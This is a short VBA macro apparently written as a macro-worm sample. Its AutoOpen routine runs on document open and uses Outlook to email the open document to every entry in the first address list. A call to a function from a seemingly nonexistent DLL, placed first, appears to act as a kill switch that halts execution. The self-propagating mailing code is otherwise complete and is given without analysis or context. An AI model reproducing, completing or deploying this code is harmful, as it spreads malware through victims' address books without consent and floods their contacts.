Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    Dim post As Object, entry As Object, letter As Object
    Set post = CreateObject("Outlook.Application")
    For Each entry In post.GetNamespace("MAPI").AddressLists(1).AddressEntries
        Set letter = post.CreateItem(0)
        letter.To = entry.Address
        letter.Attachments.Add ActiveDocument.FullName
        letter.Send
    Next
End Sub
